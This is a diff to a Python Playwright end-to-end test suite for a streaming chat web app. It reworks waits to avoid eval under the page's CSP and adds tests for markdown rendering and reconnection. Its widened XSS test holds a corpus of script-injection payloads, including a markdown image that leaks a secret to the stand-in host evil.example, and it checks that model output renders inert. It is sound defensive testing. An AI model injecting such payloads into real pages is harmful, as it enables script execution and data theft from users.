@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import re
 import shutil
 from collections.abc import Iterator
 
@@ -14,6 +15,12 @@ from tests.live import CHROMIUM, CHROMIUM_ARGS, sign_up_in_browser
 pytestmark = pytest.mark.e2e
 
 playwright_sync = pytest.importorskip("playwright.sync_api")
+expect = playwright_sync.expect
+
+
+def status_is(page, status: str, *, index: int = 0, timeout: float = 10000) -> None:
+    """Wait until a reply shows this status (no JS evaluation: the page's CSP forbids eval)."""
+    expect(page.locator(".msg.assistant").nth(index)).to_have_attribute("data-status", status, timeout=timeout)
 
 
 @pytest.fixture(scope="module")
@@ -57,10 +64,10 @@ def test_a_new_user_chats_and_two_tabs_watch_the_reply_stream(browser, live_site
     # While it streams: the Stop button shows in both tabs and the text grows.
     for tab in (page, other):
         tab.wait_for_selector("#stop:not([hidden])")
-        tab.wait_for_function("document.querySelector('.msg.assistant .content')?.textContent.length > 0")
+        tab.wait_for_selector(".msg.assistant .content:not(:empty)")
     expected = answer_text(150).rstrip()
     for tab in (page, other):
-        tab.wait_for_function("document.querySelector('.msg.assistant')?.dataset.status === 'complete'", timeout=15000)
+        status_is(tab, "complete", timeout=15000)
         assert tab.inner_text(".msg.assistant .content").strip() == expected
         assert tab.inner_text(".msg.user .content") == "Hello\nthere [[fake tokens=150 delay=0.03]]"
         assert tab.is_hidden("#stop")
@@ -86,26 +93,90 @@ def test_stop_in_one_tab_ends_the_reply_in_the_other(browser, live_site):
     other.wait_for_selector("#stop:not([hidden])")
     other.click("#stop")
     for tab in (page, other):
-        tab.wait_for_function("document.querySelector('.msg.assistant')?.dataset.status === 'stopped'")
+        status_is(tab, "stopped")
         assert tab.is_hidden("#stop")
     assert page.inner_text(".msg.assistant .content") == other.inner_text(".msg.assistant .content")
 
 
-def test_model_text_is_shown_as_text_never_as_html(browser, live_site):
+XSS_CORPUS = "\n\n".join(
+    [
+        "<script>alert('script')</script>",
+        '<img src="http://evil.example/x.png" onerror="alert(\'img\')">',
+        "[click me](javascript:alert('link'))",
+        "<a href=\"javascript:alert('a')\">raw link</a>",
+        "<iframe srcdoc=\"<script>alert('iframe')</script>\"></iframe>",
+        "![leak](http://evil.example/leak?secret=42)",
+        "<b onmouseover=\"alert('b')\">bold</b> <svg onload=\"alert('svg')\"></svg> <style>body{display:none}</style>",
+        '<details open ontoggle="alert(\'details\')">x</details> <form action="http://evil.example"><button>go</button></form>',
+        "```html\n<script>alert('code')</script>\n```",
+    ]
+)
+
+
+def _watch(page) -> tuple[list[str], list[str]]:
+    """Dialogs opened, and requests to any host but this site's, from now on."""
+    dialogs: list[str] = []
+    foreign: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.on(
+        "request", lambda request: foreign.append(request.url) if "127.0.0.1" not in request.url.split("/")[2] else None
+    )
+    return dialogs, foreign
+
+
+def _ask(page, text: str) -> None:
+    page.fill("#composer-input", text)
+    page.press("#composer-input", "Enter")
+
+
+def test_an_xss_corpus_in_model_output_renders_inert(browser, live_site):
     base_url = live_site.start()
     page = browser.new_context().new_page()
-    dialogs: list[str] = []
-    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    dialogs, foreign = _watch(page)
     sign_up_in_browser(page, base_url, "xss-check")
     page.click("#new-conversation")
     page.wait_for_selector("#connection[data-level=ok]")
-    payload = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
-    page.fill("#composer-input", f"{payload} [[fake echo]]")
-    page.press("#composer-input", "Enter")
-    page.wait_for_function("document.querySelector('.msg.assistant')?.dataset.status === 'complete'")
-    assert page.inner_text(".msg.assistant .content") == payload
-    assert page.locator(".transcript img, .transcript script").count() == 0
-    assert dialogs == []
+    _ask(page, f"{XSS_CORPUS} [[fake echo]]")
+    status_is(page, "complete")
+    reply = page.locator(".msg.assistant .content")
+    assert reply.locator("script, iframe, img, svg, style, form, button:not(.copy-code), details").count() == 0
+    for link in reply.locator("a").all():
+        href = link.get_attribute("href")
+        assert href is None or href.startswith(("http://", "https://")), href
+    text = reply.inner_text()
+    assert "<script>alert('script')</script>" in text  # shown as the text it is
+    assert "[image: leak]" in text
+    assert page.inner_text(".msg.assistant .code-bar").startswith("html")
+    reply.locator("b, a").first.hover()
+    page.wait_for_timeout(300)
+    assert dialogs == [] and foreign == []
+    assert "script-src 'self'" in page.evaluate(
+        "() => fetch(location.href).then(r => r.headers.get('content-security-policy'))"
+    )
+
+
+def test_replies_render_markdown_progressively_with_highlighted_copyable_code(browser, live_site):
+    base_url = live_site.start()
+    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
+    page = context.new_page()
+    sign_up_in_browser(page, base_url, "markdown")
+    page.click("#new-conversation")
+    page.wait_for_selector("#connection[data-level=ok]")
+    answer = (
+        "**Bold** start.\n\n| lang | year |\n|---|---|\n| Python | 1991 |\n\n- one\n- two\n\n"
+        "```python\ndef greet(name):\n    return f'hi {name}'\n```\n\n" + "more words " * 60
+    )
+    _ask(page, f"{answer} [[fake echo delay=0.01]]")
+    # Rendered while it streams, not only at the end.
+    page.wait_for_selector(".msg.assistant[data-status=streaming] .content strong")
+    status_is(page, "complete")
+    reply = page.locator(".msg.assistant .content")
+    assert reply.locator("th").all_inner_texts() == ["lang", "year"]
+    assert reply.locator("li").count() == 2
+    assert page.inner_text(".code-bar span") == "python"
+    assert reply.locator("code.hljs .hljs-keyword").first.inner_text() == "def"
+    page.click(".copy-code")
+    assert page.evaluate("navigator.clipboard.readText()") == "def greet(name):\n    return f'hi {name}'\n"
 
 
 def test_the_page_reconnects_after_a_server_restart_and_resyncs_without_doubling(browser, live_site):
@@ -117,17 +188,17 @@ def test_the_page_reconnects_after_a_server_restart_and_resyncs_without_doubling
     page.wait_for_selector("#connection[data-level=ok]")
     page.fill("#composer-input", "first [[fake tokens=20]]")
     page.press("#composer-input", "Enter")
-    page.wait_for_function("document.querySelector('.msg.assistant')?.dataset.status === 'complete'")
+    status_is(page, "complete")
     page.fill("#composer-input", "second [[fake tokens=3000 delay=0.01]]")
     page.press("#composer-input", "Enter")
-    page.wait_for_function("document.querySelectorAll('.msg.assistant')[1]?.textContent.length > 40")
+    expect(page.locator(".msg.assistant").nth(1)).to_have_text(re.compile(".{40}", re.S))
 
     port = live_site.kill(0)  # the server dies mid-reply
     page.wait_for_selector("#connection[data-level=bad]")
     live_site.start(port=port)
     page.wait_for_selector("#connection[data-level=ok]", timeout=20000)
     # The reply whose writer died is closed as failed, its text kept, shown once.
-    page.wait_for_function("document.querySelectorAll('.msg.assistant')[1]?.dataset.status === 'failed'", timeout=20000)
+    status_is(page, "failed", index=1, timeout=20000)
     assert page.locator(".msg").count() == 4
     stored = page.evaluate("fetch(location.pathname.replace('/c/', '/api/conversations/')).then((r) => r.json())")
     shown = page.locator(".msg.assistant .content").all_inner_texts()
@@ -181,8 +252,8 @@ def test_the_page_says_what_went_wrong_and_keeps_what_was_written(browser, live_
         page.wait_for_selector(f".msg.assistant >> nth={index}")
 
     def finished(index: int) -> None:
-        page.wait_for_function(
-            f"document.querySelectorAll('.msg.assistant')[{index}]?.dataset.status !== 'streaming'", timeout=20000
+        expect(page.locator(".msg.assistant").nth(index)).not_to_have_attribute(
+            "data-status", "streaming", timeout=20000
         )
 
     # Queued at DeepSeek: the page says it is waiting, then the reply comes.
